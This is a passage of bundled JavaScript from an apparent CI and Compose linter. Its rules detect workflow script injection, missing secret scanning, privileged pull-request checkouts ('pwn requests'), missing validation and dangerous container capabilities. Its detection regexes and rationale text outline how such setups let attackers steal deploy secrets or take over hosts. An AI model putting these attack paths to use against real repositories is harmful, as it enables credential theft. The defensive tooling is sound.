        const workflows = (0, _workflows_1.listWorkflows)(ctx);
        if (!workflows.length)
            return ctx.notApplicable();
        for (const w of workflows) {
            const taint = new _taint_1.TaintAnalysis(w);
            for (const job of w.jobs) {
                for (const step of job.steps) {
                    const script = step.uses && (0, _workflows_1.actionName)(step.uses) === 'actions/github-script' ? step.with.script : undefined;
                    const targets = [
                        { text: step.run, loc: step.runLoc, where: 'run: script' },
                        { text: typeof script === 'string' ? script : undefined, loc: step.withNode?.entries.get('script')?.loc, where: 'github-script script' },
                    ];
                    for (const t of targets) {
                        if (!t.text || !t.loc)
                            continue;
                        const seen = new Set();
                        for (const m of t.text.matchAll(_taint_1.EXPRESSION)) {
                            const expression = m[1];
                            if (seen.has(expression))
                                continue;
                            seen.add(expression);
                            const found = taint.taintOf(expression, job, step);
                            if (!found)
                                continue;
                            const data = { file: w.file, job: job.id, expression: `\${{ ${expression} }}`, where: t.where };
                            if (found.source === found.reference)
                                ctx.report({ messageId: 'injection', data, at: t.loc });
                            else
                                ctx.report({ messageId: 'derived', data: { ...data, source: found.source }, at: t.loc });
                        }
                    }
                }
            }
        }
    },
});


/***/ }),

/***/ 28604:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _workflows_1 = __webpack_require__(78197);
const SCANNER_ACTIONS = /^(gitleaks\/gitleaks-action|trufflesecurity\/trufflehog|gitguardian\/ggshield-action|gitguardian\/ggshield\/actions\/secret|secretlint\/secretlint)/;
const SCANNER_COMMANDS = /\b(gitleaks\s+(detect|git|dir|protect)|trufflehog\s+(git|filesystem|github)|detect-secrets(-hook)?\s+(scan|audit)|ggshield\s+secret\s+scan|secretlint)\b/;
exports["default"] = (0, types_1.defineCheck)({
    id: 'ci/secret-scan',
    target: 'repository',
    meta: {
        title: 'CI does not scan for secrets',
        category: 'security',
        severity: 'warning',
        operatedOnly: true,
        rationale: 'A token pasted into a Compose override "for local testing" is public to every reader of the repository and stays in its history; the MCP deployment roadmap names credential leaks its top risk. A scanner on pull requests catches it before merge, while revoking is still cheap.',
        remediation: 'Add `uses: <owner>/stackgate/actions/secrets@v1` (diff mode on pull requests and pushes) to a workflow, or run gitleaks or trufflehog there.',
        messages: {
            none: 'no workflow scans pull requests or pushes for secrets (stackgate secrets, gitleaks, trufflehog, detect-secrets, ggshield, secretlint)',
        },
    },
    check(ctx) {
        const workflows = (0, _workflows_1.listWorkflows)(ctx);
        if (!workflows.length)
            return ctx.notApplicable();
        const scans = (0, _workflows_1.jobsOn)(workflows, ['pull_request', 'pull_request_target', 'merge_group', 'push']).some(({ job }) => job.steps.some((s) => {
            const action = (0, _workflows_1.stackgateAction)(s.uses);
            return (action === '' ||
                action === 'secrets' ||
                (s.uses && SCANNER_ACTIONS.test((0, _workflows_1.actionName)(s.uses))) ||
                (0, _workflows_1.runsStackgate)(s.run, ['secrets']) ||
                SCANNER_COMMANDS.test(s.run ?? ''));
        }));
        if (!scans)
            ctx.report({ messageId: 'none', at: { file: workflows[0].file, line: 1, column: 1 } });
    },
});


/***/ }),

/***/ 27177:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const _taint_1 = __webpack_require__(17535);
const _workflows_1 = __webpack_require__(78197);
/** Triggers that run with the base repository's secrets and a write token, whatever the pull request contains. */
const PRIVILEGED_EVENTS = ['pull_request_target', 'workflow_run'];
const UNTRUSTED_REF = /github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|github\.event\.workflow_run\.head_(sha|branch)|refs\/pull\/|github\.event\.pull_request\.number|github\.event\.number/;
/** A job `if:` that runs only for workflow runs of this repository's own branches (not a fork's pull request). */
const SAME_REPOSITORY_GUARD = /github\.event\.workflow_run\.head_repository\.full_name\s*==\s*github\.repository\b|github\.repository\s*==\s*github\.event\.workflow_run\.head_repository\.full_name/;
/**
 * The ref as written, followed by what the `env.NAME` it reads is set to (step, job, then workflow
 * env; twice deep): `ref: ${{ env.SHA }}` with `SHA: ${{ github.event.workflow_run.head_sha }}` is
 * the same checkout as writing the field itself.
 */
function refText(ref, w, job, step, depth = 0) {
    if (depth > 2)
        return ref;
    const resolved = [ref];
    for (const [, expression] of ref.matchAll(_taint_1.EXPRESSION))
        for (const reference of (0, _taint_1.references)(expression)) {
            const [root, name] = reference.split('.');
            if (root !== 'env' || !name)
                continue;
            for (const scope of [step.node, job.node, w.root]) {
                const value = (0, yaml_tree_1.scalarOf)((0, yaml_tree_1.getNode)(scope, ['env', name]));
                if (typeof value !== 'string')
                    continue;
                resolved.push(refText(value, w, job, step, depth + 1));
                break;
            }
        }
    return resolved.join(' ');
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'ci/untrusted-checkout',
    target: 'repository',
    meta: {
        title: 'Privileged workflow checks out pull request code',
        category: 'security',
        severity: 'error',
        rationale: "`pull_request_target` and `workflow_run` jobs run with the base repository's secrets and a write token. Checking out the pull request's head there and then building, testing or even running a linter on it runs the contributor's code with those secrets (a \"pwn request\"): anyone who can open a pull request can steal the deploy credentials.",
        remediation: "Run untrusted code under `pull_request` (read-only token, no secrets) and pass results to a privileged `workflow_run` stage as an artifact that is parsed, never executed — the pattern of stackgate's readiness-comment workflow. If the privileged job must see the code, check it out without running anything from it, with `persist-credentials: false`.",
        messages: {
            checkout: '{{file}} runs on {{events}} and job "{{job}}" checks out the pull request ({{ref}}): its code then runs with the repository\'s secrets',
        },
    },
    check(ctx) {
        const workflows = (0, _workflows_1.listWorkflows)(ctx);
        if (!workflows.length)
            return ctx.notApplicable();
        for (const w of workflows) {
            const events = PRIVILEGED_EVENTS.filter((e) => w.events.has(e));
            if (!events.length)
                continue;
            for (const job of w.jobs) {
                for (const step of job.steps) {
                    if (!step.uses || (0, _workflows_1.actionName)(step.uses) !== 'actions/checkout')
                        continue;
                    const ref = step.with.ref ?? step.with.repository;
                    if (typeof ref !== 'string')
                        continue;
                    const text = refText(ref, w, job, step);
                    if (!UNTRUSTED_REF.test(text))
                        continue;
                    // A workflow_run-only job guarded to this repository's own runs checks out what someone with write access pushed.
                    const condition = (0, yaml_tree_1.scalarOf)(job.node.entries.get('if'));
                    if (!w.events.has('pull_request_target') &&
                        typeof condition === 'string' &&
                        SAME_REPOSITORY_GUARD.test(condition) &&
                        !/pull_request|head_ref|refs\/pull/.test(text))
                        continue;
                    const at = step.withNode?.entries.get(step.with.ref !== undefined ? 'ref' : 'repository')?.loc ?? step.loc;
                    ctx.report({ messageId: 'checkout', data: { file: w.file, events: events.join(' and '), job: job.id, ref: ref.trim() }, at });
                }
            }
        }
    },
});


/***/ }),

/***/ 9324:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _makefile_1 = __webpack_require__(28235);
const _workflows_1 = __webpack_require__(78197);
const PR_EVENTS = ['pull_request', 'pull_request_target', 'merge_group'];
/** Validators other than stackgate that check deployment files (schemas, policies, rendered Flux or Helm). */
const OTHER_VALIDATORS = /\b(docker[ -]compose(\s+-f\s+\S+)*\s+config|kubeconform|kubeval|kube-linter|kube-score|polaris\s+audit|dclint|hadolint|promtool\s+check|flux-schema\s+validate|flate\s+test|flux-local\s+test|ct\s+lint|helm\s+lint|conftest\s+test|checkov|trivy\s+config|kics\s+scan|datree\s+test|kubectl\s+[^\n;&|]*--dry-run)\b/;
// The same validators as actions: flux-schema, kube-linter, hadolint, kubeval, kubeconform's image, flux-local, checkov, conftest.
const OTHER_VALIDATOR_ACTIONS = /^(?:fluxcd\/flux-schema\/actions\/validate|stackrox\/kube-linter-action|hadolint\/hadolint-action|instrumenta\/kubeval-action|docker:\/\/ghcr\.io\/yannh\/kubeconform|allenporter\/flux-local\/action\/test|bridgecrewio\/checkov-action|instrumenta\/conftest-action)(?:@|:|$)/i;
/** Repository scripts a `run:` line starts (`./scripts/validate.sh`, `bash hack/check.sh`), repository-relative. */
const SCRIPT = /(?:^|[\s;&|(])(?:(?:bash|sh|zsh)\s+)?(?:\.\/)?((?:[\w.-]+\/)*[\w.-]+\.(?:sh|bash))\b/g;
function scriptsRun(run) {
    return [...(run ?? '').matchAll(SCRIPT)].map((m) => m[1].replace(/^\.\//, ''));
}
/** `make validate`, `make -j2 lint test`: the targets a run line asks of the root Makefile ('' for its default). */
const MAKE = /(?:^|[\s;&|(])make((?:\s+-[\w-]+(?:=\S+)?)*)((?:\s+[A-Za-z_][\w.-]*)*)/g;
/**
 * The recipes of the root Makefile's targets a run line asks for, with those of their prerequisites
 * (two levels), so `run: make validate` counts when the target runs a validator or a script that does.
 */
function makeRecipes(run, read) {
    const asked = [...(run ?? '').matchAll(MAKE)];
    if (!asked.length)
        return [];
    const makefile = (0, _makefile_1.rootMakefile)(read);
    if (!makefile)
        return [];
    const { rules, first } = makefile;
    const out = [];
    const visit = (target, depth) => {
        const rule = rules.get(target);
        if (!rule || depth > 2)
            return;
        out.push(rule.recipe.join('\n'));
        for (const p of rule.prerequisites)
            visit(p, depth + 1);
    };
    for (const m of asked) {
        const targets = m[2].split(/\s+/).filter(Boolean);
        for (const target of targets.length ? targets : first ? [first] : [])
            visit(target, 0);
    }
    return out;
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'ci/validate-on-pull-request',
    target: 'repository',
    meta: {
        title: 'Pull requests are not validated',
        category: 'correctness',
        severity: 'warning',
        operatedOnly: true,
        rationale: 'A reviewer cannot see that an override drops a memory limit or that a Service selects no pod; a validator on every pull request can, and annotates the line. Validation only after merge finds the fault when the endpoints are already pulling it.',
        remediation: 'Run `uses: <owner>/stackgate@v1` (or `…/stackgate/actions/validate@v1`) in a workflow triggered by `pull_request` (and `merge_group` with a merge queue).',
        messages: {
            none: 'no workflow validates pull requests: none of {{workflows}} runs stackgate validate (or compose config, kubeconform, kube-linter, hadolint) on pull_request or merge_group',
            noPrWorkflow: 'no workflow runs on pull_request or merge_group, so changes are validated only after they are merged',
        },
    },
    check(ctx) {
        const workflows = (0, _workflows_1.listWorkflows)(ctx);
        if (!workflows.length)
            return ctx.notApplicable();
        const prJobs = (0, _workflows_1.jobsOn)(workflows, PR_EVENTS);
        if (!prJobs.length)
            return ctx.report({ messageId: 'noPrWorkflow', at: { file: workflows[0].file, line: 1, column: 1 } });
        const validates = prJobs.some(({ job }) => [job.uses, ...job.steps.map((s) => s.uses)].some((u) => (0, _workflows_1.stackgateAction)(u) === '' || (0, _workflows_1.stackgateAction)(u) === 'validate' || (typeof u === 'string' && OTHER_VALIDATOR_ACTIONS.test(u))) ||
            job.steps.some((s) => {
                // A step validates when its commands, a Makefile target or a repository script they start run a validator.
                const commands = [s.run ?? '', ...makeRecipes(s.run, (file) => ctx.read(file))];
                const texts = [...commands, ...commands.flatMap(scriptsRun).map((file) => ctx.read(file) ?? '')];
                return texts.some((text) => (0, _workflows_1.runsStackgate)(text, ['validate', 'score']) || OTHER_VALIDATORS.test(text));
            }));
        if (!validates) {
            const first = prJobs[0].workflow;
            ctx.report({ messageId: 'none', data: { workflows: [...new Set(prJobs.map((j) => j.workflow.file))].join(', ') }, at: first.onLoc });
        }
    },
});


/***/ }),

/***/ 24766:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const missing_location_1 = __webpack_require__(74521);
const types_1 = __webpack_require__(15200);
const _workflows_1 = __webpack_require__(78197);
/**
 * The configuration of CI systems other than GitHub Actions, by their documented locations:
 * Woodpecker, GitLab, Forgejo/Gitea Actions, Drone, CircleCI, Jenkins, Azure Pipelines, Bitbucket,
 * Buildkite, Tekton (Pipelines as Code) and Travis. stackgate reads only GitHub Actions workflows;
 * where another system runs the checks, it cannot say that nothing does.
 */
const OTHER_CI = /^(\.woodpecker\/[^/]+\.ya?ml|\.woodpecker\.ya?ml|\.gitlab-ci\.ya?ml|\.(forgejo|gitea)\/workflows\/[^/]+\.ya?ml|\.drone\.ya?ml|\.circleci\/config\.ya?ml|Jenkinsfile|azure-pipelines\.ya?ml|bitbucket-pipelines\.ya?ml|\.buildkite\/[^/]+\.ya?ml|\.tekton\/[^/]+\.ya?ml|\.travis\.ya?ml)$/;
exports["default"] = (0, types_1.defineCheck)({
    id: 'ci/workflows-present',
    target: 'repository',
    meta: {
        title: 'The repository has no CI workflows',
        category: 'operations',
        severity: 'warning',
        rationale: 'Without a workflow, nothing checks a change before Portainer or Argo deploys it from main: a broken Compose override, a leaked token or a missing healthcheck reaches every endpoint at the next poll. Every other CI/CD check builds on workflows that exist. Not applicable where another CI system is configured (Woodpecker, GitLab CI, Forgejo or Gitea Actions, Drone, CircleCI, Jenkins, Azure Pipelines, Bitbucket Pipelines, Buildkite, Tekton, Travis): stackgate reads only GitHub Actions.',
        remediation: "Add `.github/workflows/pr-readiness.yml` (copy it from stackgate's `workflows-templates/`): it validates, scans for secrets and scores every pull request.",
        messages: {
            none: 'no GitHub Actions workflow in .github/workflows: nothing validates a change before it is deployed',
        },
    },
    check(ctx) {
        if ((0, _workflows_1.listWorkflows)(ctx).length)
            return;
        if (ctx.paths.some((p) => OTHER_CI.test(p)))
            return ctx.notApplicable();
        ctx.report({ messageId: 'none', at: (0, missing_location_1.missingLocation)(ctx) });
    },
});


/***/ }),

/***/ 41768:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.dependenciesOf = dependenciesOf;
exports.isOneShotJob = isOneShotJob;
function dependenciesOf(service) {
    const node = service.entries.get('depends_on');
    if (node?.kind === 'seq') {
        return node.items.flatMap((item, i) => item.kind === 'scalar' && typeof item.value === 'string' ? [{ name: item.value, isRequired: true, path: ['depends_on', i] }] : []);
    }
    if (node?.kind !== 'map')
        return [];
    return [...node.entries].map(([name, entry]) => {
        const field = (k) => entry.kind === 'map' && entry.entries.get(k)?.kind === 'scalar' ? entry.entries.get(k).value : undefined;
        const condition = field('condition');
        const required = field('required');
        return {
            name,
            condition: typeof condition === 'string' ? condition : undefined,
            isRequired: required !== false && required !== 'false',
            path: ['depends_on', name],
        };
    });
}
/**
 * Whether a service is a one-shot job: another service of its stack waits for it to complete
 * (`depends_on: { job: { condition: service_completed_successfully } }`), as an init, migration or
 * model-download container. It runs once and exits: it must not restart, and its logs stop growing.
 */
function isOneShotJob(services, name) {
    return services.some((s) => dependenciesOf(s.node).some((d) => d.name === name && d.condition === 'service_completed_successfully'));
}


/***/ }),

/***/ 55262:
/***/ ((__unused_webpack_module, exports) => {


/** Parts of an image reference `[registry/]name[:tag][@digest]`. */
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.parseImageRef = parseImageRef;
exports.imageBaseName = imageBaseName;
function parseImageRef(image) {
    const at = image.indexOf('@');
    const digest = at >= 0 ? image.slice(at + 1) : undefined;
    const rest = at >= 0 ? image.slice(0, at) : image;
    const colon = rest.lastIndexOf(':');
    const hasTag = colon > rest.lastIndexOf('/');
    return { name: hasTag ? rest.slice(0, colon) : rest, tag: hasTag ? rest.slice(colon + 1) : undefined, digest };
}
/** The last path segment of an image name without registry or namespace: `ghcr.io/x/postgres` -> `postgres`. */
function imageBaseName(name) {
    return name.split('/').pop().toLowerCase();
}


/***/ }),

/***/ 86214:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.listOrMapEntries = listOrMapEntries;
function listOrMapEntries(node) {
    if (!node)
        return [];
    if (node.kind === 'map') {
        return [...node.entries].map(([key, v]) => ({ key, value: v.kind === 'scalar' && v.value !== null ? String(v.value) : null, path: [key] }));
    }
    if (node.kind !== 'seq')
        return [];
    const out = [];
    node.items.forEach((item, i) => {
        if (item.kind !== 'scalar' || item.value === null)
            return;
        const text = String(item.value);
        const at = text.indexOf('=');
        out.push({ key: at >= 0 ? text.slice(0, at) : text, value: at >= 0 ? text.slice(at + 1) : null, path: [i] });
    });
    return out;
}


/***/ }),

/***/ 69968:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.forEachPath = forEachPath;
/** Compose fields that name files: one string, a list of strings, or a list of `{ path, required }` maps. */
const yaml_tree_1 = __webpack_require__(43183);
/** Calls `fn` with each path's node and its path below the field (`[]`, `[i]` or `[i, 'path']`). */
function forEachPath(node, fn) {
    if (!node)
        return;
    if (node.kind === 'scalar')
        return fn(node, [], node);
    if (node.kind !== 'seq')
        return;
    node.items.forEach((item, i) => {
        if (item.kind === 'scalar')
            fn(item, [i], item);
        else {
            const p = (0, yaml_tree_1.getNode)(item, ['path']);
            if (p)
                fn(p, [i, 'path'], item);
        }
    });
}


/***/ }),

/***/ 47574:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.runsOnPodman = runsOnPodman;
/**
 * Whether a Compose stack is run by Podman (podman-compose, a systemd unit) rather than Docker: its
 * file is named for Podman (`podman-compose.yml`, `compose.podman.yml`), sits under a `podman/`
 * directory, or declares `x-podman` settings. Podman's defaults differ from Docker's: its log driver
 * is journald on systemd hosts (k8s-file otherwise), not json-file.
 */
const node_path_1 = __importDefault(__webpack_require__(76760));
const _stack_paths_1 = __webpack_require__(83174);
function runsOnPodman(stack) {
    return stack.node.entries.has('x-podman') || stack.files.some((file) => /podman/i.test(node_path_1.default.posix.basename(file))) || (0, _stack_paths_1.stackUnderDirectory)(stack, 'podman');
}


/***/ }),

/***/ 83174:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.stackUnderDirectory = stackUnderDirectory;
/** Where a Compose stack's files sit, as the platform-specific checks read it. */
const node_path_1 = __importDefault(__webpack_require__(76760));
/** Whether a file of the stack sits under a directory of that name, at any depth (`windows/`, `podman/`; any case). */
function stackUnderDirectory(stack, name) {
    const wanted = name.toLowerCase();
    return stack.files.some((file) => node_path_1.default.posix
        .dirname(file)
        .split('/')
        .some((segment) => segment.toLowerCase() === wanted));
}


/***/ }),

/***/ 16068:
/***/ ((__unused_webpack_module, exports) => {


/** Service `volumes` in short (`src:dst[:mode]`) and long (`{type, source, target}`) syntax, normalised. */
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.volumeMountsOf = volumeMountsOf;
exports.isHostPath = isHostPath;
exports.normalizeHostPath = normalizeHostPath;
function volumeMountsOf(volumes) {
    if (!Array.isArray(volumes))
        return [];
    const out = [];
    volumes.forEach((v, index) => {
        if (typeof v === 'string') {
            const m = parseShortVolume(v);
            if (m)
                out.push({ index, ...m });
        }
        else if (v && typeof v === 'object') {
            const o = v;
            const source = typeof o.source === 'string' ? o.source : '';
            const type = typeof o.type === 'string' ? o.type : isHostPath(source) ? 'bind' : 'volume';
            out.push({ index, type, source, target: typeof o.target === 'string' ? o.target : '', isReadOnly: o.read_only === true || o.read_only === 'true' });
        }
    });
    return out;
}
function parseShortVolume(spec) {
    const s = spec.trim();
    if (!s)
        return undefined;
    // A Windows drive letter (C:\data) is part of the source, not a separator.
    const drive = /^[A-Za-z]:[\\/]/.test(s) ? s.slice(0, 2) : '';
    const parts = s.slice(drive.length).split(':');
    parts[0] = drive + parts[0];
    if (parts.length === 1)
        return { type: 'volume', source: '', target: parts[0], isReadOnly: false };
    const [source, target, mode = ''] = parts;
    const isReadOnly = mode.split(',').some((m) => m.trim() === 'ro');
    return { type: isHostPath(source) ? 'bind' : 'volume', source, target, isReadOnly };
}
function isHostPath(source) {
    return /^(\/|\.|~|[A-Za-z]:[\\/]|\\\\)/.test(source);
}
/** `/var/run//docker.sock/` -> `/var/run/docker.sock`. */
function normalizeHostPath(source) {
    const p = source.replace(/\\/g, '/').replace(/\/{2,}/g, '/');
    return p.length > 1 ? p.replace(/\/+$/, '') : p;
}


/***/ }),

/***/ 55270:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.runsWindowsContainer = runsWindowsContainer;
/**
 * Whether a Compose service runs a Windows container, where Linux capabilities, no-new-privileges,
 * a read-only root filesystem and root UIDs do not exist (Docker rejects `cap_drop`, `security_opt`
 * and `read_only` there). Told from what the Compose file says, since the image is not pulled:
 * `platform: windows/...`, `isolation:` (a Windows-only setting), an image of a Windows base
 * (windows, servercore, nanoserver, ltsc), a network that is Docker's Windows NAT network (`nat`),
 * or a Compose file under a `windows/` directory.
 */
const is_record_1 = __webpack_require__(32789);
const yaml_tree_1 = __webpack_require__(43183);
const _stack_paths_1 = __webpack_require__(83174);
const WINDOWS_IMAGE = /(?:^|[/:._-])(?:windows|windowsservercore|servercore|nanoserver|ltsc20\d\d)(?:$|[/:._-])/i;
function runsWindowsContainer(stack, service) {
    const v = service.value;
    if (typeof v.platform === 'string' && /^windows\b/i.test(v.platform.trim()))
        return true;
    if (v.isolation !== undefined && v.isolation !== null)
        return true;
    if (typeof v.image === 'string' && WINDOWS_IMAGE.test(v.image))
        return true;
    if (usesWindowsNatNetwork(stack))
        return true;
    return (0, _stack_paths_1.stackUnderDirectory)(stack, 'windows');
}
/** A top-level network that is the `nat` network Docker creates on Windows hosts (named so, or external with that name). */
function usesWindowsNatNetwork(stack) {
    const networks = (0, yaml_tree_1.toPlain)(stack.node.entries.get('networks'));
    if (!(0, is_record_1.isRecord)(networks))
        return false;
    return Object.entries(networks).some(([key, network]) => {
        if (!(0, is_record_1.isRecord)(network))
            return false;
        const external = network.external;
        const name = typeof network.name === 'string' ? network.name : (0, is_record_1.isRecord)(external) && typeof external.name === 'string' ? external.name : key;
        return name === 'nat' && (external === true || (0, is_record_1.isRecord)(external) || network.driver === 'nat');
    });
}


/***/ }),

/***/ 4281:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const zod_1 = __webpack_require__(50924);
const types_1 = __webpack_require__(15200);
/** Capabilities that give a container control over the host, its network or other processes. */
const DANGEROUS = new Set([
    'ALL',
    'SYS_ADMIN',
    'NET_ADMIN',
    'SYS_PTRACE',
    'SYS_MODULE',
    'SYS_RAWIO',
    'SYS_BOOT',
    'SYS_TIME',
    'DAC_READ_SEARCH',
    'MAC_ADMIN',
    'MAC_OVERRIDE',
    'BPF',
    'PERFMON',
    'SYSLOG',
    'LINUX_IMMUTABLE',
]);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/cap-add-dangerous',
    target: 'compose-service',
    meta: {
        title: 'Service adds a dangerous Linux capability',
        category: 'security',
        severity: 'error',
        rationale: "Capabilities such as SYS_ADMIN (nearly root), NET_ADMIN (rewrite host-visible networking), SYS_PTRACE (read other processes' memory) or ALL turn a compromised MCP server into a host compromise. Polaris (dangerousCapabilities) and kube-linter (privilege-escalation-container) flag them.",
        remediation: "Remove the capability from `cap_add`; if a tool really needs it, run that tool in a separate, isolated service and allow it with this check's `allowed` option.",
        messages: {
            dangerous: 'service "{{service}}" adds capability {{capability}}',
        },
    },
    options: zod_1.z.strictObject({
        allowed: zod_1.z.array(zod_1.z.string()).default([]).describe('Capabilities (without CAP_) that may be added, e.g. ["NET_ADMIN"] for a VPN sidecar.'),
    }),
    check(ctx) {
        const caps = ctx.service.value.cap_add;
        if (!Array.isArray(caps))
            return;
        const allowed = new Set(ctx.options.allowed.map(normalize));
        caps.forEach((c, i) => {
            if (typeof c !== 'string')
                return;
            const cap = normalize(c);
            if (DANGEROUS.has(cap) && !allowed.has(cap))
                ctx.report({ messageId: 'dangerous', data: { service: ctx.service.name, capability: cap }, at: ['cap_add', i] });
        });
    },
});
function normalize(cap) {
    return cap.trim().toUpperCase().replace(/^CAP_/, '');
}


/***/ }),

/***/ 31248:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const _windows_1 = __webpack_require__(55270);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/cap-drop-all',
    target: 'compose-service',
    meta: {
        title: 'Service keeps the default Linux capabilities',
        category: 'security',
        severity: 'warning',
        rationale: 'Docker grants 14 capabilities by default (CHOWN, DAC_OVERRIDE, NET_RAW, SETUID, ...); an MCP server needs none of them, and each one widens what an attacker can do after code execution (NET_RAW alone allows ARP/DNS spoofing on the bridge network). The Kubernetes restricted Pod Security Standard requires dropping ALL, and Polaris (insecureCapabilities) flags the defaults. Windows containers are not checked (runsWindowsContainer: `platform: windows`, `isolation:`, a Windows base image, the `nat` network or a `windows/` directory): they have no Linux capabilities.',
        remediation: 'Add `cap_drop: [ALL]` and add back only what the service needs, e.g. `cap_add: [NET_BIND_SERVICE]`.',
        messages: {
            notDropped: 'service "{{service}}" does not drop all capabilities (cap_drop: [ALL])',
        },
    },
    check(ctx) {
        if ((0, _windows_1.runsWindowsContainer)(ctx.stack, ctx.service))
            return;
        const drop = ctx.service.value.cap_drop;
        const dropsAll = Array.isArray(drop) && drop.some((c) => typeof c === 'string' && /^(CAP_)?ALL$/i.test(c.trim()));
        if (!dropsAll)
            ctx.report({ messageId: 'notDropped', data: { service: ctx.service.name }, at: ['cap_drop'] });
    },
});


/***/ }),

/***/ 44657:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/container-name',
    target: 'compose-service',
    meta: {
        title: 'Service sets a fixed container_name',
        category: 'operations',
        severity: 'info',
        rationale: 'A fixed container name is global on the host: the service cannot be scaled or given replicas, a second copy of the stack (a staging and a preview deployment on one host) fails with "name already in use", and blue/green redeploys cannot start the new container before removing the old one.',
        remediation: 'Remove `container_name`; address the service by its service name on the Compose network (or a network alias).',
        messages: {
            fixedName: 'service "{{service}}" sets container_name "{{name}}", so it cannot be scaled or deployed twice on a host',
            withReplicas: 'service "{{service}}" sets container_name "{{name}}" and asks for {{replicas}} replicas, which Compose refuses',
        },
    },
    check(ctx) {
        const name = ctx.service.value.container_name;
        if (name === undefined || name === null || name === '')
            return;
        const deploy = ctx.service.value.deploy;
        const replicas = Number(deploy && typeof deploy === 'object' ? deploy.replicas : ctx.service.value.scale);
        const data = { service: ctx.service.name, name: String(name) };
        if (Number.isFinite(replicas) && replicas > 1)
            ctx.report({ messageId: 'withReplicas', data: { ...data, replicas }, at: ['container_name'] });
        else
            ctx.report({ messageId: 'fixedName', data, at: ['container_name'] });
    },
});


/***/ }),

/***/ 61362:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/cpu-limit',
    target: 'compose-service',
    meta: {
        title: 'Service has no CPU limit',
        category: 'resources',
        severity: 'info',
        productionOnly: true,
        rationale: 'Without a CPU limit one busy MCP server (a runaway tool call, a tight retry loop) can starve every other container on the host, including its database and the monitoring agent. It is info rather than a warning because CPU is compressible: an unlimited container slows its neighbours down but does not crash them. kube-linter (unset-cpu-requirements) and Polaris (cpuLimitsMissing) flag the Kubernetes equivalent.',
        remediation: 'Set `deploy.resources.limits.cpus: "1.0"` (or the legacy `cpus: 1.0`) from observed usage.',
        messages: {
            missing: 'service "{{service}}" has no CPU limit',
            unlimited: 'service "{{service}}" sets its CPU limit to {{value}}, which means unlimited',
        },
    },
    check(ctx) {
        const v = ctx.service.value;
        const data = { service: ctx.service.name };
        const deploy = v.deploy && typeof v.deploy === 'object' ? v.deploy : undefined;
        const resources = deploy?.resources && typeof deploy.resources === 'object' ? deploy.resources : undefined;
        const limits = resources?.limits && typeof resources.limits === 'object' ? resources.limits : undefined;
        const candidates = [
            [limits?.cpus, ['deploy', 'resources', 'limits', 'cpus']],
            [v.cpus, ['cpus']],
            [v.cpu_quota, ['cpu_quota']],
        ];
        const found = candidates.find(([value]) => value !== undefined && value !== null && value !== '');
        if (!found) {
            ctx.report({ messageId: 'missing', data, at: ['deploy', 'resources', 'limits', 'cpus'] });
            return;
        }
        const [value, at] = found;
        if (value === 0 || value === '0' || value === -1 || value === '-1')
            ctx.report({ messageId: 'unlimited', data: { ...data, value: String(value) }, at });
    },
});


/***/ }),

/***/ 12079:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _depends_on_1 = __webpack_require__(41768);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/depends-on-healthy',
    target: 'compose-service',
    meta: {
        title: 'Dependency with a healthcheck is not awaited',
        category: 'reliability',
        severity: 'warning',
        rationale: "Plain `depends_on` (or `condition: service_started`) only waits for the dependency's container to start, not for it to be ready: the MCP server starts while its database is still initialising, fails its first connections and may crash-loop. The dependency already has a healthcheck, so Compose can wait for it.",
        remediation: 'Use the long syntax: `depends_on: { db: { condition: service_healthy } }`.',
        messages: {
            notHealthy: 'service "{{service}}" depends on "{{dependency}}" without condition: service_healthy, although "{{dependency}}" has a healthcheck',
        },
    },
    check(ctx) {
        for (const dep of (0, _depends_on_1.dependenciesOf)(ctx.service.node)) {
            if (dep.condition && dep.condition !== 'service_started')
                continue;
            const target = ctx.stack.services.find((s) => s.name === dep.name);
            const hc = target?.value.healthcheck;
            if (!hc || typeof hc !== 'object' || Array.isArray(hc))
                continue;
            const h = hc;
            if (h.disable === true || (Array.isArray(h.test) && h.test[0] === 'NONE'))
